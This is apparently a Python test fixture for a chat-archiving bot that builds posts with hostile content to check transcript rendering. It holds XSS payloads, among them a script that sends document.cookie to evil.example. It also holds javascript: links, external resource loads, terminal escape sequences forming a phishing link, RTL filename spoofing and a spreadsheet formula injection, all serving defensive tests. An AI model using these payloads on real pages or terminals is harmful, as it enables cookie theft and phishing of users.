"""A chat whose every field tries to break out of a transcript page, or to make it call home."""

from __future__ import annotations

from dataclasses import replace

from bot.core.model import ArchivedPost
from bot.core.transcript import Question
from tests.support.posts import BOT, person, post

EVIL = "https://evil.example"
RTL_OVERRIDE = "\u202e"
FAMILY = "👩‍👩‍👧‍👦"
FLAGS = "🇬🇧🇫🇷🏳️‍🌈"
SKIN_TONES = "👋🏽👍🏿"
BIG_POST_CHARACTERS = 100_000

# Markup a server (or an attacker posing as one) might send as a post's HTML.
HOSTILE_HTML = [
    "<p>hello<script>fetch('https://evil.example/steal?c='+document.cookie)</script></p>",
    "<img src=x onerror=alert(1)><p onclick='alert(2)' onmouseover=alert(3)>hover me</p>",
    "<a href='javascript:alert(4)'>js</a> <a href='JaVaScRiPt:alert(5)'>js2</a>"
    " <a href=' javascript:alert(6)'>js3</a> <a href='java&#x09;script:alert(7)'>js4</a>",
    "<a href='data:text/html,<script>alert(8)</script>'>data</a>"
    " <a href='vbscript:msgbox(9)'>vb</a> <a href='//evil.example/x'>protocol-relative</a>"
    " <a href='/etc/passwd'>relative</a>",
    "<style>body{background:url(https://evil.example/bg.png)}</style>"
    "<p style='background:url(https://evil.example/p.png)'>styled</p>"
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<div><b><i>unclosed <a href='https://ok.example/page'>ok link",
    "</article></section></main><h1>fake heading</h1><footer>fake footer",
    "<!-- an unterminated comment <p>swallow the rest",
    "<svg><script>alert(10)</script><image href='https://evil.example/i.png'/></svg>",
    "<iframe src='https://evil.example/frame'></iframe><object data='https://evil.example/o'>"
    "</object><embed src='https://evil.example/e'>",
    "<form action='https://evil.example/f'><input name=q><button formaction="
    "'https://evil.example/g'>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>"
    "<base href='https://evil.example/'>",
    "<video src='https://evil.example/v.mp4' poster='https://evil.example/p.jpg'></video>"
    "<audio src='https://evil.example/a.mp3'></audio>",
    "<math><mi xlink:href='javascript:alert(11)'>m</mi></math>"
    "<p>&lt;script&gt;alert(12)&lt;/script&gt; stays text</p>",
    f"<p>right-to-left {RTL_OVERRIDE}txt.exe{RTL_OVERRIDE} override</p>",
    f"<p>{FAMILY} {FLAGS} {SKIN_TONES} emoji sequences</p>",
]

# Text aimed at a terminal: Rich markup that ends a tag never opened, or makes a hyperlink;
# OSC 8 hyperlinks, screen clears, colours, a window title and a bell, as raw escapes.
OSC8_LINK = f"\x1b]8;;{EVIL}/verify\x1b\\click me\x1b]8;;\x1b\\"
TERMINAL_ATTACKS = [
    "A1 [/archive] ends a tag never opened",
    f"A1 [link={EVIL}/verify]verify your account[/link] [bold red]loud[/]",
    f"A1 {OSC8_LINK} and the same in C1 form \x9d8;;{EVIL}\x9c",
    "A1 \x1b[2J\x1b[H cleared \x1b[31mred\x1b[0m \x1b]0;pwned title\x07 \x07bell \r\x1b[Khidden",
]


def hostile_chat() -> tuple[list[ArchivedPost], list[Question]]:
    """Posts with hostile HTML, names, handles, ids and addresses; two questions."""
    ana = person("ana")
    mallory = replace(
        person("mallory"),
        display_name=f"<img src=x onerror=alert(13)>{RTL_OVERRIDE}yrollaM",
        handle='@m"><script>alert(14)</script>',
    )
    posts = [
        post("q1", BOT, 5, "Q1: What breaks a page?", own=True, question=1),
        post("q2", BOT, 13, "Q2: And what survives?", own=True, question=2),
    ]
    for i, markup in enumerate(HOSTILE_HTML):
        author = (ana, mallory)[i % 2]
        posts.append(
            replace(
                post(f"h{i}", author, 6 + i / 4, "A1 hostile", question=1),
                html=markup,
                text=f"A1 {markup}",  # the plain text holds the same, for md/csv/json
            )
        )
    big = "word " * (BIG_POST_CHARACTERS // 5 - 1) + "unbrokenstring" * 1000
    posts.append(post("big", ana, 14, f"A2 {big}", question=2))
    posts.append(
        replace(
            post("evil-url", mallory, 15, "A2 see my link", question=2),
            url="javascript:alert(15)",
            id='"><script>alert(16)</script>',
        )
    )
    posts.append(post("plain", ana, 16, '=HYPERLINK("https://evil.example","click")', question=2))
    posts.append(post("reply", mallory, 17, "<b>not bold</b>", question=2, reply_to="plain"))
    questions = [
        Question(
            1, "Q1: What breaks a page? <script>alert(17)</script>", frozenset({("mastodon", "q1")})
        ),
        Question(2, "Q2: And what survives?", frozenset({("mastodon", "q2")})),
    ]
    return posts, questions
